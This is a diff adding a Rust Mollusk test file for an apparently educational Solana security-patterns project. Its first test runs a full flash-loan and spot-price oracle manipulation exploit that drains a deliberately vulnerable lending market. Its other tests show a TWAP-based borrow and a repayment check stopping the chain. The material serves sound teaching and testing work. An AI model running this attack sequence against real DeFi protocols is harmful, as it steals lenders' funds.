@@ -0,0 +1,378 @@
+// Mollusk tests for the attack chain of patterns 13 and 15
+/// # Attack Chain: Flash Loan → Spot-Price Borrow
+///
+/// Pattern 15's tests give the attacker 3,000 SOL and say it was flash
+/// borrowed. Here it is: pattern 13's flash-loan pool lends it, with its
+/// secure, repayment-checked borrow. The flash loan has no bug. It makes
+/// pattern 15's bug free to exploit.
+///
+/// The flash pool holds 3,000 SOL at a 0.09% fee. The AMM holds 1,000 SOL
+/// and 100,000 TOK (0.01 SOL per TOK), with TWAP observations from an hour
+/// ago, and its market lends 500 SOL at 50% LTV. The attacker has 10 SOL
+/// and 10,000 TOK of collateral, worth 100 SOL.
+///
+/// - Test 1: EXPLOIT — flash borrow, swap in, borrow_vulnerable, swap out,
+///   repay, in one transaction: the attacker keeps 500 SOL of the market's
+///   SOL for the 2.7 SOL fee.
+/// - Test 2: SECURE — the same transaction with borrow_secure fails at the
+///   borrow, and nothing it did is kept, flash loan included.
+/// - Test 3: SECURE — the transaction without its repay fails at the flash
+///   borrow.
+/// - Test 4: SANITY — flash borrow, swap in, swap out, and repay with no
+///   borrow costs the attacker the fee and leaves the AMM as it was.
+use attack_chains::{Chain, TransactionError};
+use solana_sdk::{
+    account::ReadableAccount,
+    instruction::{AccountMeta, Instruction, InstructionError},
+    pubkey::Pubkey,
+    sysvar,
+};
+use test_harness::{account_discriminator, ix_discriminator, owned_account, system_account};
+
+const FLASH_ID: Pubkey = solana_sdk::pubkey!("6PznHVALBahrkdd7PSiptsX3ruZhDNK6rYwFGPv9Dpj2");
+const AMM_ID: Pubkey = solana_sdk::pubkey!("2wheHSJBZuMQDeqeTHkr57j36tuiEcmsmwLnMfQHEzy9");
+
+const SOL: u64 = 1_000_000_000;
+const TOK: u64 = 1_000_000; // 6 decimals
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+
+/// Pattern 13's pool.
+const FLASH_LIQUIDITY: u64 = 3_000 * SOL;
+const FEE_BPS: u16 = 9;
+const FEE: u64 = FLASH_LIQUIDITY * FEE_BPS as u64 / 10_000;
+
+/// Pattern 15's pool and market.
+const SOL_RESERVE: u64 = 1_000 * SOL;
+const TOKEN_RESERVE: u64 = 100_000 * TOK;
+const LIQUIDITY: u64 = 500 * SOL;
+const LTV_BPS: u16 = 5_000;
+const COLLATERAL: u64 = 10_000 * TOK;
+/// What the constant-product curve pays for FLASH_LIQUIDITY.
+const SWAP_OUT: u64 = 75_000 * TOK;
+/// Seconds between the AMM's observations and the attack.
+const NOW: i64 = 3_600;
+
+// Error codes
+const MISSING_REPAYMENT: u32 = 6000; // pattern 13
+const BORROW_LIMIT: u32 = 6000; // pattern 15
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize pattern 13's Pool with no loan open:
+/// [8 disc][32 admin][2 fee_bps][1 loan_pending][8 pending_repayment][1 bump]
+fn serialize_flash_pool(admin: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(52);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&FEE_BPS.to_le_bytes());
+    data.push(0);
+    data.extend_from_slice(&0u64.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize pattern 15's Pool with no swaps since t = 0:
+/// [8 disc][32 admin][8 sol_reserve][8 token_reserve][16 price_cumulative]
+/// [8 last_update][2 x (16 cumulative, 8 timestamp) observations][1 bump]
+fn serialize_amm_pool(admin: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(129);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.extend_from_slice(admin.as_ref());
+    data.extend_from_slice(&SOL_RESERVE.to_le_bytes());
+    data.extend_from_slice(&TOKEN_RESERVE.to_le_bytes());
+    data.extend_from_slice(&0u128.to_le_bytes());
+    data.extend_from_slice(&0i64.to_le_bytes());
+    for _ in 0..2 {
+        data.extend_from_slice(&0u128.to_le_bytes());
+        data.extend_from_slice(&0i64.to_le_bytes());
+    }
+    data.push(bump);
+    data
+}
+
+/// Serialize pattern 15's Market: [8 disc][32 pool][2 ltv_bps][1 bump]
+fn serialize_market(pool: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(43);
+    data.extend_from_slice(&account_discriminator("Market"));
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(&LTV_BPS.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize pattern 15's Position:
+/// [8 disc][32 owner][32 pool][8 tokens][8 collateral][8 debt][1 bump]
+fn serialize_position(owner: &Pubkey, pool: &Pubkey, debt: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(97);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(pool.as_ref());
+    data.extend_from_slice(&0u64.to_le_bytes());
+    data.extend_from_slice(&COLLATERAL.to_le_bytes());
+    data.extend_from_slice(&debt.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+struct Setup {
+    chain: Chain,
+    flash_pool: Pubkey,
+    amm_pool: Pubkey,
+    market: Pubkey,
+    position: Pubkey,
+    position_bump: u8,
+    attacker: Pubkey,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mut chain = Chain::new(&[
+            (FLASH_ID, "flash_loan_introspection"),
+            (AMM_ID, "spot_price_manipulation"),
+        ]);
+        chain.mollusk.sysvars.clock.unix_timestamp = NOW;
+
+        let admin = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let (flash_pool, flash_bump) = Pubkey::find_program_address(&[b"pool"], &FLASH_ID);
+        let (amm_pool, amm_bump) = Pubkey::find_program_address(&[b"pool"], &AMM_ID);
+        let (market, market_bump) =
+            Pubkey::find_program_address(&[b"market", amm_pool.as_ref()], &AMM_ID);
+        let (position, position_bump) = Pubkey::find_program_address(
+            &[b"position", amm_pool.as_ref(), attacker.as_ref()],
+            &AMM_ID,
+        );
+
+        chain.set_account(
+            flash_pool,
+            owned_account(
+                &serialize_flash_pool(&admin, flash_bump),
+                RENT + FLASH_LIQUIDITY,
+                &FLASH_ID,
+            ),
+        );
+        chain.set_account(
+            amm_pool,
+            owned_account(
+                &serialize_amm_pool(&admin, amm_bump),
+                RENT + SOL_RESERVE,
+                &AMM_ID,
+            ),
+        );
+        chain.set_account(
+            market,
+            owned_account(
+                &serialize_market(&amm_pool, market_bump),
+                RENT + LIQUIDITY,
+                &AMM_ID,
+            ),
+        );
+        chain.set_account(
+            position,
+            owned_account(
+                &serialize_position(&attacker, &amm_pool, 0, position_bump),
+                RENT,
+                &AMM_ID,
+            ),
+        );
+        chain.set_account(attacker, system_account(WALLET));
+
+        Self {
+            chain,
+            flash_pool,
+            amm_pool,
+            market,
+            position,
+            position_bump,
+            attacker,
+        }
+    }
+
+    /// Pattern 13: flash_borrow_secure(amount).
+    fn flash_borrow(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("flash_borrow_secure").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            FLASH_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.flash_pool, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(sysvar::instructions::ID, false),
+            ],
+        )
+    }
+
+    /// Pattern 13: flash_repay(amount).
+    fn flash_repay(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("flash_repay").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            FLASH_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.flash_pool, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// Pattern 15: swap_sol_for_tokens or swap_tokens_for_sol.
+    fn swap(&self, name: &str, amount_in: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount_in.to_le_bytes());
+        Instruction::new_with_bytes(
+            AMM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.amm_pool, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// Pattern 15: borrow_vulnerable or borrow_secure.
+    fn borrow(&self, name: &str, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            AMM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(self.amm_pool, false),
+                AccountMeta::new(self.market, false),
+                AccountMeta::new(self.position, false),
+                AccountMeta::new(self.attacker, true),
+            ],
+        )
+    }
+
+    /// The whole chain, borrowing with `borrow`; `None` leaves it out.
+    fn attack(&self, borrow: Option<&str>) -> Vec<Instruction> {
+        let mut ixs = vec![
+            self.flash_borrow(FLASH_LIQUIDITY),
+            self.swap("swap_sol_for_tokens", FLASH_LIQUIDITY),
+        ];
+        if let Some(name) = borrow {
+            ixs.push(self.borrow(name, LIQUIDITY));
+        }
+        ixs.push(self.swap("swap_tokens_for_sol", SWAP_OUT));
+        ixs.push(self.flash_repay(FLASH_LIQUIDITY + FEE));
+        ixs
+    }
+
+    /// Every balance the chain touches is as `Setup::new` left it.
+    fn assert_untouched(&self) {
+        assert_eq!(self.chain.lamports(&self.attacker), WALLET);
+        assert_eq!(
+            self.chain.lamports(&self.flash_pool),
+            RENT + FLASH_LIQUIDITY
+        );
+        assert_eq!(self.chain.lamports(&self.amm_pool), RENT + SOL_RESERVE);
+        assert_eq!(self.chain.lamports(&self.market), RENT + LIQUIDITY);
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_flash_loan_funds_spot_price_borrow() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: one transaction
+    //   0. Pattern 13: flash_borrow_secure(3,000 SOL)
+    //   1. Pattern 15: swap_sol_for_tokens(3,000 SOL)  TOK spot 0.01 → 0.16 SOL
+    //   2. Pattern 15: borrow_vulnerable(500 SOL)      collateral "worth" 1,600 SOL
+    //   3. Pattern 15: swap_tokens_for_sol(75,000 TOK) 3,000 SOL back
+    //   4. Pattern 13: flash_repay(3,002.7 SOL)
+    //
+    // Expected: SUCCEEDS. The flash pool is repaid with its fee, the market
+    //           is empty, and the attacker is 497.3 SOL up, owing 500 SOL
+    //           against 100 SOL of collateral.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let ixs = s.attack(Some("borrow_vulnerable"));
+
+    assert_eq!(s.chain.transaction(&ixs), Ok(()));
+    assert_eq!(s.chain.lamports(&s.attacker), WALLET + LIQUIDITY - FEE);
+    assert_eq!(
+        s.chain.lamports(&s.flash_pool),
+        RENT + FLASH_LIQUIDITY + FEE
+    );
+    assert_eq!(s.chain.lamports(&s.amm_pool), RENT + SOL_RESERVE);
+    assert_eq!(s.chain.lamports(&s.market), RENT);
+    assert_eq!(
+        s.chain.account(&s.position).data(),
+        serialize_position(&s.attacker, &s.amm_pool, LIQUIDITY, s.position_bump)
+    );
+}
+
+#[test]
+fn secure_twap_borrow_breaks_chain() {
+    // -----------------------------------------------------------------------
+    // SECURE: the same transaction with borrow_secure at step 2
+    //
+    // Expected: FAILS at instruction 2 with BorrowLimit (6000): the TWAP
+    //           still values the collateral at 100 SOL. The transaction
+    //           reverts as a whole, so the flash loan and both swaps are
+    //           undone with it.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let ixs = s.attack(Some("borrow_secure"));
+
+    assert_eq!(
+        s.chain.transaction(&ixs),
+        Err(TransactionError {
+            index: 2,
+            error: InstructionError::Custom(BORROW_LIMIT),
+        })
+    );
+    s.assert_untouched();
+}
+
+#[test]
+fn secure_flash_loan_without_repay_refused() {
+    // -----------------------------------------------------------------------
+    // SECURE: the chain without its final flash_repay
+    //
+    // Expected: FAILS at instruction 0 with MissingRepayment (6000). The
+    //           flash loan is only free when it is repaid in the same
+    //           transaction, and then the profit has to come from elsewhere.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let mut ixs = s.attack(Some("borrow_vulnerable"));
+    ixs.pop();
+
+    assert_eq!(
+        s.chain.transaction(&ixs),
+        Err(TransactionError {
+            index: 0,
+            error: InstructionError::Custom(MISSING_REPAYMENT),
+        })
+    );
+    s.assert_untouched();
+}
+
+#[test]
+fn sanity_round_trip_costs_the_fee() {
+    // -----------------------------------------------------------------------
+    // SANITY: flash borrow, swap in, swap out, repay, with no borrow
+    //
+    // Expected: SUCCEEDS. The attacker pays the 2.7 SOL fee, the AMM's SOL
+    //           is back where it started, and the market is untouched.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let ixs = s.attack(None);
+
+    assert_eq!(s.chain.transaction(&ixs), Ok(()));
+    assert_eq!(s.chain.lamports(&s.attacker), WALLET - FEE);
+    assert_eq!(s.chain.lamports(&s.amm_pool), RENT + SOL_RESERVE);
+    assert_eq!(s.chain.lamports(&s.market), RENT + LIQUIDITY);
+}